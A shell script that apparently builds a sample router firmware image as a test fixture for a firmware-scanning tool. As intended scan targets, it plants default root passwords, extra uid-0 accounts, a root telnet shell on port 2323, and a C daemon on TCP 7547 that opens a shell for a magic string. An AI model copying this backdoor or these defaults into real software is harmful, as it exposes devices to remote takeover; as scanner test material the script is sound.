#!/bin/sh
# Builds the sample router firmware of `make demo` with the real tools, the
# way a vendor build system lays out NOR flash: a U-Boot legacy image with an
# LZMA-compressed kernel, 0xFF padding to a 64 KiB erase block, a squashfs
# (xz) root filesystem, and a gzip'd tar of default settings at the end.
#   scripts/mkfirmware.sh OUT.bin [rebuild|update]
# rebuild: the same sources built again on another day (fwvet equiv);
# update: the next release, with a new account, a new daemon started at boot
# and a newer kernel (fwvet diff).
set -eu
out=$1 variant=${2:-}
epoch=1700000000
[ "$variant" = rebuild ] && epoch=1710000000
export SOURCE_DATE_EPOCH=$epoch TZ=UTC LC_ALL=C
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

root=$work/rootfs
mkdir -p "$root/bin" "$root/sbin" "$root/etc/init.d" "$root/etc/config" "$root/usr/sbin" \
	"$root/usr/lib" "$root/www/cgi-bin" "$root/tmp" "$root/dev" "$root/lib"
cat > "$root/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/ash
daemon:*:1:1:daemon:/var:/bin/false
support:x:0:0:Support:/tmp:/bin/ash
nobody:*:65534:65534:nobody:/var:/bin/false
P
# md5crypt of the defaults "admin" and "support" (fixed salts, so the image is
# the same on every build): the kind of default a scan must report.
printf 'root:%s:19000:0:99999:7:::\nsupport:%s:19000:0:99999:7:::\n' \
	"$(openssl passwd -1 -salt abcdefgh admin)" "$(openssl passwd -1 -salt 12345678 support)" > "$root/etc/shadow"
cat > "$root/etc/init.d/rcS" <<'P'
#!/bin/sh
mount -t proc proc /proc
/usr/sbin/httpd -p 80 -h /www &
/usr/sbin/telnetd -l /bin/sh -p 2323 &
/usr/sbin/dropbear -p 22 -r /etc/dropbear_rsa_host_key &
/usr/sbin/cwmpd &
P
cat > "$root/etc/config/system" <<'P'
config system
	option hostname 'router'
	option timezone 'UTC'
P
printf 'BusyBox v1.36.1 (2023-11-14 22:13:20 UTC) multi-call binary.\n' > "$root/bin/busybox"
for a in sh ash ls cat mount; do ln -s busybox "$root/bin/$a"; done
ln -s ../bin/busybox "$root/sbin/init"
for a in telnetd httpd; do ln -s ../../bin/busybox "$root/usr/sbin/$a"; done
ln -s /tmp/resolv.conf "$root/etc/resolv.conf"
printf '<html><body>Router login</body></html>\n' > "$root/www/index.html"
printf '#!/bin/sh\necho "Content-type: text/plain"\necho\ncat /proc/uptime\n' > "$root/www/cgi-bin/status"
# A real MIPS daemon, built by Debian's cross compiler: a remote-management
# agent that answers on TCP 7547 and hands a shell to whoever sends its
# magic string, which no rule list names; the binary analysis must find it.
cat > "$work/cwmpd.c" <<'C'
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((noinline)) static int handle(int c, const char *req)
{
	if (strcmp(req, "Inform") == 0)
		return send(c, "InformResponse\n", 15, 0) > 0;
	if (strcmp(req, "x7Rq!cwmp#2016") == 0) {
		dup2(c, 0); dup2(c, 1); dup2(c, 2);
		return execl("/bin/sh", "sh", (char *)0);
	}
	return 0;
}
int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(7547) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 1) < 0)
		return 1;
	for (char req[128];;) {
		int c = accept(s, 0, 0);
		ssize_t n = c < 0 ? 0 : recv(c, req, sizeof req - 1, 0);
		if (n > 0) {
			req[n] = 0;
			req[strcspn(req, "\r\n")] = 0;
			handle(c, req);
		}
		if (c >= 0)
			close(c);
	}
}
C
mipsel-linux-gnu-gcc -O2 -s -o "$root/usr/sbin/cwmpd" "$work/cwmpd.c"
kernel=5.15.137
if [ "$variant" = update ]; then
	# The next release: a second root account, and a diagnostics daemon
	# started at boot that listens on TCP 9999.
	kernel=5.15.150
	echo 'maint:x:0:0:Maintenance:/tmp:/bin/ash' >> "$root/etc/passwd"
	printf 'maint:%s:19300:0:99999:7:::\n' "$(openssl passwd -1 -salt mnt12345 maint)" >> "$root/etc/shadow"
	echo '/usr/sbin/diagd &' >> "$root/etc/init.d/rcS"
	cat > "$work/diagd.c" <<'C'
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(9999) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c >= 0) {
			write(c, "diag ok\n", 8);
			close(c);
		}
	}
}
C
	mipsel-linux-gnu-gcc -O2 -s -o "$root/usr/sbin/diagd" "$work/diagd.c"
fi
# A library-sized file so the image has some weight.
i=0; while [ $i -lt 4000 ]; do echo "libcrypto filler line $i OpenSSL 1.0.2k  26 Jan 2017"; i=$((i + 1)); done > "$root/usr/lib/libcrypto.so.1.0.0"
chmod 0755 "$root/bin/busybox" "$root/etc/init.d/rcS" "$root/www/cgi-bin/status"
chmod 0600 "$root/etc/shadow"
chmod 1777 "$root/tmp"
find "$root" -exec touch -h -d @$SOURCE_DATE_EPOCH {} +

# The kernel: any payload will do for the layout; compress it as vendors do.
# Deterministic incompressible bytes stand in for machine code.
head -c 300000 /dev/zero | openssl enc -aes-128-ctr -nosalt -K 000102030405060708090a0b0c0d0e0f -iv 00000000000000000000000000000000 > "$work/vmlinux.bin"
dd if=/dev/zero bs=1024 count=200 2>/dev/null >> "$work/vmlinux.bin"
lzma -9 -c "$work/vmlinux.bin" > "$work/vmlinux.lzma"
mkimage -A mips -O linux -T kernel -C lzma -a 0x80060000 -e 0x80060000 \
	-n "MIPS OpenWrt Linux-$kernel" -d "$work/vmlinux.lzma" "$work/uImage" >/dev/null

mksquashfs "$root" "$work/root.sqfs" -comp xz -b 131072 -all-root -noappend -quiet >/dev/null

mkdir -p "$work/defaults/etc/config"
cp "$root/etc/config/system" "$work/defaults/etc/config/"
tar --sort=name --mtime=@$SOURCE_DATE_EPOCH --owner=0 --group=0 -C "$work/defaults" -cf - etc |
	gzip -n -9 > "$work/defaults.tar.gz"

# pad FILE SIZE: extends FILE with 0xFF up to SIZE bytes.
pad() {
	cur=$(stat -c %s "$1")
	[ "$cur" -le "$2" ] || { echo "mkfirmware: $1 is larger than $2" >&2; exit 1; }
	head -c $(($2 - cur)) /dev/zero | tr '\0' '\377' >> "$1"
}
cp "$work/uImage" "$out"
kernel_end=$(( ($(stat -c %s "$out") + 65535) / 65536 * 65536 ))
pad "$out" $kernel_end
cat "$work/root.sqfs" >> "$out"
root_end=$(( ($(stat -c %s "$out") + 65535) / 65536 * 65536 ))
pad "$out" $root_end
cat "$work/defaults.tar.gz" >> "$out"
pad "$out" $(( ($(stat -c %s "$out") + 65535) / 65536 * 65536 ))
